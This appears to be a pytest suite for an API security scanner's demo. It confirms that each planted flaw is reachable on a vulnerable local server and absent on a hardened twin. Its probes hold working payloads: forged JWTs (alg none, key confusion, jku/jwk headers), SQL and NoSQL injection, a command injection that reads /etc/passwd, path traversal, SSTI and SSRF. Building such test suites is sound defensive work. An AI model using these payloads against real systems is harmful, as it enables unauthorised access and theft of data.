"""Every planted flaw is reachable on the vulnerable demo and absent on the secure twin (real servers, httpx)."""

from __future__ import annotations

import base64
import hashlib
import hmac
import itertools
import json
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from apiward.demo import SEEDED_USERS, Flaw, ServerHandle, create_app, serve

PASSWORDS = {u.username: u.password for u in SEEDED_USERS}
_names = itertools.count(1)


def _client(handle: ServerHandle) -> httpx.Client:
    return httpx.Client(base_url=handle.url, timeout=15.0, trust_env=False)


def _login(c: httpx.Client, username: str, password: str | None = None) -> dict[str, str]:
    r = c.post("/api/v2/auth/login", json={"username": username, "password": password or PASSWORDS[username]})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


def _throwaway(c: httpx.Client) -> tuple[str, str]:
    name, password = f"tmp{next(_names)}x{int(time.time() * 1000) % 100000}", "throwaway-Pass-1"
    r = c.post("/api/v2/auth/register", json={"username": name, "password": password, "email": f"{name}@example.test"})
    assert r.status_code == 201, r.text
    return name, password


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _claims(token: str) -> dict[str, Any]:
    payload = token.split(".")[1]
    return dict(json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4))))


def _hs256(header: dict[str, Any], claims: dict[str, Any], key: bytes) -> str:
    signing = f"{_b64(json.dumps(header).encode())}.{_b64(json.dumps(claims).encode())}"
    return f"{signing}.{_b64(hmac.new(key, signing.encode(), hashlib.sha256).digest())}"


def _fresh_claims(sub: str = "alice") -> dict[str, Any]:
    now = int(time.time())
    return {"sub": sub, "iss": "apiward-demo", "aud": "apiward-demo-api", "iat": now, "exp": now + 600}


def _me_as(c: httpx.Client, token: str) -> str | None:
    r = c.get("/api/v2/users/me", headers={"Authorization": f"Bearer {token}"})
    return r.json()["username"] if r.status_code == 200 else None


# -- probes: each returns True when the flaw shows ------------------------------------------------
def bola_read(c: httpx.Client, h: ServerHandle) -> bool:
    alice, bob = _login(c, "alice"), _login(c, "bob")
    order = c.post("/api/v2/orders", json={"item": "Red mug", "quantity": 1}, headers=alice).json()
    r = c.get(f"/api/v2/orders/{order['id']}", headers=bob)
    return r.status_code == 200 and r.json() == order


def bola_write(c: httpx.Client, h: ServerHandle) -> bool:
    alice, bob = _login(c, "alice"), _login(c, "bob")
    order = c.post("/api/v2/orders", json={"item": "Red mug", "quantity": 1}, headers=alice).json()
    c.put(f"/api/v2/orders/{order['id']}", json={"note": "bob was here"}, headers=bob)
    return bool(c.get(f"/api/v2/orders/{order['id']}", headers=alice).json()["note"] == "bob was here")


def bola_delete(c: httpx.Client, h: ServerHandle) -> bool:
    alice, bob = _login(c, "alice"), _login(c, "bob")
    order = c.post("/api/v2/orders", json={"item": "Red mug", "quantity": 1}, headers=alice).json()
    deleted = c.delete(f"/api/v2/orders/{order['id']}", headers=bob).status_code == 204
    return deleted and c.get(f"/api/v2/orders/{order['id']}", headers=alice).status_code == 404


def bola_query_and_body(c: httpx.Client, h: ServerHandle) -> bool:
    alice, bob = _login(c, "alice"), _login(c, "bob")
    order = c.post("/api/v2/orders", json={"item": "Red mug", "quantity": 1}, headers=alice).json()
    invoice = c.post("/api/v2/invoices", json={"order_id": order["id"]}, headers=alice).json()
    by_query = c.get("/api/v2/invoices/lookup", params={"invoiceId": invoice["id"]}, headers=bob)
    by_body = c.post("/api/v2/invoices/query", json={"invoice_id": invoice["id"]}, headers=bob)
    return by_query.status_code == 200 and by_body.status_code == 200 and by_body.json() == invoice


def missing_authentication(c: httpx.Client, h: ServerHandle) -> bool:
    alice = _login(c, "alice")
    order = c.post("/api/v2/orders", json={"item": "Red mug", "quantity": 1}, headers=alice).json()
    invoice = c.post("/api/v2/invoices", json={"order_id": order["id"]}, headers=alice).json()
    r = c.get(f"/api/v2/invoices/{invoice['id']}")
    return r.status_code == 200 and r.json() == invoice


def invalid_credentials(c: httpx.Client, h: ServerHandle) -> bool:
    garbage = c.get("/api/v2/users/me", headers={"X-API-Key": "not-a-key"})
    revoked = c.get("/api/v2/users/me", headers={"X-API-Key": "ak_revoked_5f1c0a77e2d94b1e"})
    return garbage.status_code == 200 and revoked.status_code == 200


def jwt_alg_none(c: httpx.Client, h: ServerHandle) -> bool:
    header = _b64(json.dumps({"alg": "none", "typ": "JWT"}).encode())
    token = f"{header}.{_b64(json.dumps(_fresh_claims('bob')).encode())}."
    return _me_as(c, token) == "bob"


def jwt_claims_tampered(c: httpx.Client, h: ServerHandle) -> bool:
    token = _login(c, "alice")["Authorization"].split()[1]
    head, _, sig = token.split(".")
    forged = f"{head}.{_b64(json.dumps({**_claims(token), 'sub': 'bob'}).encode())}.{sig}"
    stripped = f"{head}.{token.split('.')[1]}."
    return _me_as(c, forged) == "bob" and _me_as(c, stripped) == "alice"


def jwt_weak_secret(c: httpx.Client, h: ServerHandle) -> bool:
    return _me_as(c, _hs256({"alg": "HS256", "typ": "JWT"}, _fresh_claims("bob"), b"secret")) == "bob"


def jwt_key_confusion(c: httpx.Client, h: ServerHandle) -> bool:
    jwk = c.get("/.well-known/jwks.json").json()["keys"][0]
    public = jwt.algorithms.RSAAlgorithm.from_jwk(json.dumps(jwk))
    assert isinstance(public, rsa.RSAPublicKey)
    from cryptography.hazmat.primitives import serialization

    pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return _me_as(c, _hs256({"alg": "HS256", "typ": "JWT"}, _fresh_claims("bob"), pem)) == "bob"


def jwt_kid_injection(c: httpx.Client, h: ServerHandle) -> bool:
    header = {"alg": "HS256", "typ": "JWT", "kid": "../../../../../../dev/null"}
    return _me_as(c, _hs256(header, _fresh_claims("bob"), b"")) == "bob"


def _rsa_token(header_extra: dict[str, Any], key: rsa.RSAPrivateKey) -> str:
    return jwt.encode(_fresh_claims("bob"), key, algorithm="RS256", headers=header_extra)


def jwt_jwk_header(c: httpx.Client, h: ServerHandle) -> bool:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(key.public_key()))
    return _me_as(c, _rsa_token({"jwk": jwk}, key)) == "bob"


def jwt_jku_header(c: httpx.Client, h: ServerHandle) -> bool:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwks = {"keys": [{**json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(key.public_key())), "kid": "k1"}]}

    async def serve_jwks(request: Request) -> Response:
        return JSONResponse(jwks)

    with serve(Starlette(routes=[Route("/jwks.json", serve_jwks)])) as attacker:
        return _me_as(c, _rsa_token({"jku": f"{attacker.url}/jwks.json", "kid": "k1"}, key)) == "bob"


def jwt_expired(c: httpx.Client, h: ServerHandle, app: Starlette) -> bool:
    expired = app.state.demo.tokens.issue("alice", "user", ttl_s=-3600)
    return _me_as(c, expired) == "alice"


def user_enumeration(c: httpx.Client, h: ServerHandle) -> bool:
    unknown = c.post("/api/v2/auth/login", json={"username": "nobody-here", "password": "wrong-pass-1"})
    wrong = c.post("/api/v2/auth/login", json={"username": "carol", "password": "wrong-pass-1"})
    return (unknown.status_code, unknown.json()) != (wrong.status_code, wrong.json())


def no_login_throttle(c: httpx.Client, h: ServerHandle) -> bool:
    name, password = _throwaway(c)
    statuses = {
        c.post("/api/v2/auth/login", json={"username": name, "password": "nope-nope"}).status_code for _ in range(8)
    }
    ok = c.post("/api/v2/auth/login", json={"username": name, "password": password}).status_code == 200
    return 429 not in statuses and ok


def mass_assignment(c: httpx.Client, h: ServerHandle) -> bool:
    name, password = _throwaway(c)
    auth = _login(c, name, password)
    c.patch("/api/v2/users/me", json={"display_name": "x", "role": "admin", "isAdmin": True}, headers=auth)
    return bool(c.get("/api/v2/users/me", headers=auth).json()["role"] == "admin")


def data_exposure(c: httpx.Client, h: ServerHandle) -> bool:
    me = c.get("/api/v2/users/me", headers=_login(c, "alice")).json()
    return "password_hash" in me and "api_key" in me


def no_rate_limit(c: httpx.Client, h: ServerHandle) -> bool:
    responses = [c.get("/api/v2/products") for _ in range(20)]
    return not any("ratelimit-limit" in r.headers or r.status_code == 429 for r in responses)


def unbounded_page_size(c: httpx.Client, h: ServerHandle) -> bool:
    r = c.get("/api/v2/orders", params={"page_size": 100000}, headers=_login(c, "alice"))
    return r.status_code == 200 and r.json()["page_size"] == 100000


def oversized_payload(c: httpx.Client, h: ServerHandle) -> bool:
    body = {"item": "Red mug", "quantity": 1, "note": "A" * (1024 * 1024)}
    return c.post("/api/v2/orders", json=body, headers=_login(c, "alice")).status_code == 201


def redos(c: httpx.Client, h: ServerHandle) -> bool:
    # No timing here (the scanner's SCN-043 measures the growth): the vulnerable build evaluates a
    # nested-quantifier pattern and caps input at 27 characters; the twin allows 32 and never backtracks.
    r = c.get("/api/v2/users/check-username", params={"username": "a" * 30})
    return r.status_code == 400 and "27" in r.text


def bfla(c: httpx.Client, h: ServerHandle) -> bool:
    return c.get("/api/v2/admin/users", headers=_login(c, "carol")).status_code == 200


def ssrf(c: httpx.Client, h: ServerHandle) -> bool:
    hits: list[str] = []

    async def callback(request: Request) -> Response:
        hits.append(request.url.path)
        return Response("<title>callback</title>", media_type="text/html")

    with serve(Starlette(routes=[Route("/cb/{token}", callback, methods=["GET", "POST"])])) as listener:
        auth = _login(c, "alice")
        c.post("/api/v2/preview", json={"url": f"{listener.url}/cb/preview"}, headers=auth)
        c.post("/api/v2/webhooks", json={"url": f"{listener.url}/cb/hook"}, headers=auth)
    return hits == ["/cb/preview", "/cb/hook"]


def cors_reflection(c: httpx.Client, h: ServerHandle) -> bool:
    r = c.get("/api/v2/products", headers={"Origin": "https://evil.apiward.test"})
    reflected = r.headers.get("access-control-allow-origin") == "https://evil.apiward.test"
    return reflected and r.headers.get("access-control-allow-credentials") == "true"


def missing_security_headers(c: httpx.Client, h: ServerHandle) -> bool:
    r = c.get("/api/v2/users/me", headers=_login(c, "alice"))
    return r.headers.get("x-content-type-options") != "nosniff" or r.headers.get("cache-control") != "no-store"


def verbose_errors(c: httpx.Client, h: ServerHandle) -> bool:
    auth = {**_login(c, "alice"), "Content-Type": "application/json"}
    r = c.post("/api/v2/orders", content=b'{"item": ', headers=auth)
    return "Traceback (most recent call last)" in r.text and '.py", line' in r.text


def version_disclosure(c: httpx.Client, h: ServerHandle) -> bool:
    r = c.get("/api/v2/products")
    return any(ch.isdigit() for ch in r.headers.get("server", "") + r.headers.get("x-powered-by", ""))


def undeclared_methods(c: httpx.Client, h: ServerHandle) -> bool:
    trace = c.request("TRACE", "/api/v2/products", headers={"X-Probe": "echo-me"})
    delete = c.delete("/api/v2/products/1")
    return trace.status_code == 200 and "echo-me" in trace.text and delete.status_code == 200


def undocumented_endpoints(c: httpx.Client, h: ServerHandle) -> bool:
    paths = ["/debug", "/actuator", "/actuator/env", "/.env", "/admin", "/console", "/api/v1/products"]
    return all(c.get(p).status_code == 200 for p in paths)


def deprecated_served(c: httpx.Client, h: ServerHandle) -> bool:
    return c.get("/api/v2/orders/export", headers=_login(c, "alice")).status_code == 200


def sql_injection(c: httpx.Client, h: ServerHandle) -> bool:
    true = c.get("/api/v2/products", params={"category": "x' OR '1'='1"})
    false = c.get("/api/v2/products", params={"category": "x' AND '1'='2"})
    error = c.get("/api/v2/products", params={"category": "books'"})
    timed = c.get("/api/v2/products", params={"category": "books' AND sleep(0)=0 AND '1'='1"})
    boolean = true.status_code == 200 and len(true.json()) == 8 and false.json() == []
    return boolean and "OperationalError" in error.text and len(timed.json()) == 2


def nosql_injection(c: httpx.Client, h: ServerHandle) -> bool:
    login = c.post("/api/v2/auth/login", json={"username": "alice", "password": {"$ne": None}})
    found = c.post("/api/v2/products/find", json={"name": {"$ne": "nothing"}})
    return login.status_code == 200 and found.status_code == 200 and len(found.json()) == 8


def command_injection(c: httpx.Client, h: ServerHandle) -> bool:
    auth = _login(c, "alice")
    r = c.post("/api/v2/tools/ping", json={"host": "127.0.0.1;echo aw$((9127*3))x"}, headers=auth)
    p = c.post("/api/v2/tools/ping", json={"host": "localhost && cat /etc/passwd"}, headers=auth)
    return "aw27381x" in r.text and "root:x:0:0:" in p.text


def path_traversal(c: httpx.Client, h: ServerHandle) -> bool:
    auth = _login(c, "alice")
    plain = c.get("/api/v2/files", params={"name": "../../../../../../etc/passwd"}, headers=auth)
    encoded = c.get("/api/v2/files", params={"name": "..%2f..%2f..%2f..%2fetc%2fpasswd"}, headers=auth)
    return plain.text.startswith("root:x:0:0:") and encoded.text.startswith("root:x:0:0:")


def ssti(c: httpx.Client, h: ServerHandle) -> bool:
    r = c.post("/api/v2/reports", json={"title": "{{1337*1337}}"}, headers=_login(c, "alice"))
    return r.status_code == 201 and "1787569" in r.json()["heading"]


def server_error(c: httpx.Client, h: ServerHandle) -> bool:
    return c.get("/api/v2/orders/abc", headers=_login(c, "alice")).status_code == 500


def schema_mismatch(c: httpx.Client, h: ServerHandle) -> bool:
    auth = _login(c, "alice")
    account = c.get("/api/v2/accounts", headers=auth).json()[0]
    comment = c.post("/api/v2/products/1/comments", json={"text": "nice"}, headers=auth)
    currency = c.get(f"/api/v2/accounts/{account['id']}", headers=auth).json()["currency"]
    return currency == "eur" and comment.status_code == 200


def delete_not_effective(c: httpx.Client, h: ServerHandle) -> bool:
    auth = _login(c, "alice")
    hook = c.post("/api/v2/webhooks", json={"url": "https://hooks.example.com/shop"}, headers=auth)
    if hook.status_code != 201:  # the vulnerable build only calls loopback; this host is unreachable there
        hook = c.post("/api/v2/webhooks", json={"url": "http://127.0.0.1:9/"}, headers=auth)
    assert hook.status_code == 201, hook.text
    assert c.delete(f"/api/v2/webhooks/{hook.json()['id']}", headers=auth).status_code == 204
    return c.get(f"/api/v2/webhooks/{hook.json()['id']}", headers=auth).status_code == 200


def slow_response(c: httpx.Client, h: ServerHandle) -> bool:
    # A lower bound only (the handler sleeps 1.2 s): it can never flake on a slow machine.
    start = time.monotonic()
    assert c.get("/api/v2/stats", headers=_login(c, "alice")).status_code == 200
    return time.monotonic() - start >= 1.1


Probe = Callable[[httpx.Client, ServerHandle], bool]
PROBES: dict[str, tuple[Flaw, Probe]] = {
    "bola-read": (Flaw.BOLA, bola_read),
    "bola-write": (Flaw.BOLA, bola_write),
    "bola-delete": (Flaw.BOLA, bola_delete),
    "bola-query-body": (Flaw.BOLA, bola_query_and_body),
    "missing-authentication": (Flaw.MISSING_AUTHENTICATION, missing_authentication),
    "invalid-credentials": (Flaw.INVALID_CREDENTIALS, invalid_credentials),
    "jwt-alg-none": (Flaw.JWT_ALG_NONE, jwt_alg_none),
    "jwt-claims-tampered": (Flaw.JWT_SIGNATURE_UNVERIFIED, jwt_claims_tampered),
    "jwt-weak-secret": (Flaw.JWT_WEAK_SECRET, jwt_weak_secret),
    "jwt-key-confusion": (Flaw.JWT_KEY_CONFUSION, jwt_key_confusion),
    "jwt-kid-injection": (Flaw.JWT_KID_INJECTION, jwt_kid_injection),
    "jwt-jwk-header": (Flaw.JWT_JKU_JWK, jwt_jwk_header),
    "jwt-jku-header": (Flaw.JWT_JKU_JWK, jwt_jku_header),
    "user-enumeration": (Flaw.USER_ENUMERATION, user_enumeration),
    "no-login-throttle": (Flaw.NO_LOGIN_THROTTLE, no_login_throttle),
    "mass-assignment": (Flaw.MASS_ASSIGNMENT, mass_assignment),
    "data-exposure": (Flaw.DATA_EXPOSURE, data_exposure),
    "no-rate-limit": (Flaw.NO_RATE_LIMIT, no_rate_limit),
    "unbounded-page-size": (Flaw.UNBOUNDED_PAGE_SIZE, unbounded_page_size),
    "oversized-payload": (Flaw.OVERSIZED_PAYLOAD, oversized_payload),
    "redos": (Flaw.REDOS, redos),
    "bfla": (Flaw.BFLA, bfla),
    "ssrf": (Flaw.SSRF, ssrf),
    "cors-reflection": (Flaw.CORS_REFLECTION, cors_reflection),
    "missing-security-headers": (Flaw.MISSING_SECURITY_HEADERS, missing_security_headers),
    "verbose-errors": (Flaw.VERBOSE_ERRORS, verbose_errors),
    "version-disclosure": (Flaw.VERSION_DISCLOSURE, version_disclosure),
    "undeclared-methods": (Flaw.UNDECLARED_METHODS, undeclared_methods),
    "undocumented-endpoints": (Flaw.UNDOCUMENTED_ENDPOINTS, undocumented_endpoints),
    "deprecated-served": (Flaw.DEPRECATED_SERVED, deprecated_served),
    "sql-injection": (Flaw.SQL_INJECTION, sql_injection),
    "nosql-injection": (Flaw.NOSQL_INJECTION, nosql_injection),
    "command-injection": (Flaw.COMMAND_INJECTION, command_injection),
    "path-traversal": (Flaw.PATH_TRAVERSAL, path_traversal),
    "ssti": (Flaw.SSTI, ssti),
    "server-error": (Flaw.SERVER_ERROR, server_error),
    "schema-mismatch": (Flaw.SCHEMA_MISMATCH, schema_mismatch),
    "delete-not-effective": (Flaw.DELETE_NOT_EFFECTIVE, delete_not_effective),
}


def test_every_flaw_has_a_probe() -> None:
    probed = {flaw for flaw, _ in PROBES.values()} | {Flaw.JWT_EXPIRY_IGNORED, Flaw.SLOW_RESPONSE}
    assert probed == set(Flaw)


@pytest.mark.parametrize("name", sorted(PROBES))
def test_flaw_is_reachable_on_the_vulnerable_app(vulnerable: ServerHandle, name: str) -> None:
    with _client(vulnerable) as c:
        assert PROBES[name][1](c, vulnerable) is True


@pytest.mark.parametrize("name", sorted(PROBES))
def test_flaw_is_absent_on_the_secure_twin(secure: ServerHandle, name: str) -> None:
    with _client(secure) as c:
        assert PROBES[name][1](c, secure) is False


@pytest.mark.parametrize("name", sorted(PROBES))
def test_each_flaw_alone_is_enough(name: str) -> None:
    """The switch for one flaw, alone, plants it: nothing else is needed for the probe to fire."""
    flaw, probe = PROBES[name]
    with serve(create_app(secure=False, flaws={flaw})) as handle, _client(handle) as c:
        assert probe(c, handle) is True


@pytest.mark.parametrize(
    ("flaws", "accepted"),
    [(None, True), ({Flaw.JWT_EXPIRY_IGNORED}, True), ({Flaw.JWT_ALG_NONE}, False), (set(), False)],
)
def test_expired_tokens(flaws: set[Flaw] | None, accepted: bool) -> None:
    app = create_app(secure=flaws is not None and not flaws, flaws=flaws)
    with serve(app) as handle, _client(handle) as c:
        assert jwt_expired(c, handle, app) is accepted


def test_slow_response_is_planted_on_the_vulnerable_app(vulnerable: ServerHandle) -> None:
    with _client(vulnerable) as c:
        assert slow_response(c, vulnerable) is True


@pytest.fixture
def strict_twin() -> Iterator[ServerHandle]:
    from apiward.demo import Settings

    with serve(create_app(secure=True, settings=Settings(rate_limit=5, login_max_failures=3))) as handle:
        yield handle


def test_twin_throttles_a_burst(strict_twin: ServerHandle) -> None:
    with _client(strict_twin) as c:
        statuses = [c.get("/api/v2/products").status_code for _ in range(8)]
    assert statuses[:5] == [200] * 5
    assert statuses[5:] == [429] * 3


def test_twin_locks_out_a_guessed_login(strict_twin: ServerHandle) -> None:
    with _client(strict_twin) as c:
        name, password = "lockme", "lockme-Pass-1"
        c.post("/api/v2/auth/register", json={"username": name, "password": password, "email": "l@example.test"})
        for _ in range(3):
            c.post("/api/v2/auth/login", json={"username": name, "password": "wrong-wrong"})
        r = c.post("/api/v2/auth/login", json={"username": name, "password": password})
    assert r.status_code == 429
    assert int(r.headers["retry-after"]) > 0


def test_twin_cors_allows_only_listed_origins() -> None:
    from apiward.demo import Settings

    app = create_app(secure=True, settings=Settings(cors_origins=("https://shop.example.com",)))
    with serve(app) as handle, _client(handle) as c:
        ok = c.options(
            "/api/v2/orders",
            headers={"Origin": "https://shop.example.com", "Access-Control-Request-Method": "POST"},
        )
        evil = c.get("/api/v2/products", headers={"Origin": "https://evil.apiward.test"})
    assert ok.headers.get("access-control-allow-origin") == "https://shop.example.com"
    assert "access-control-allow-origin" not in evil.headers
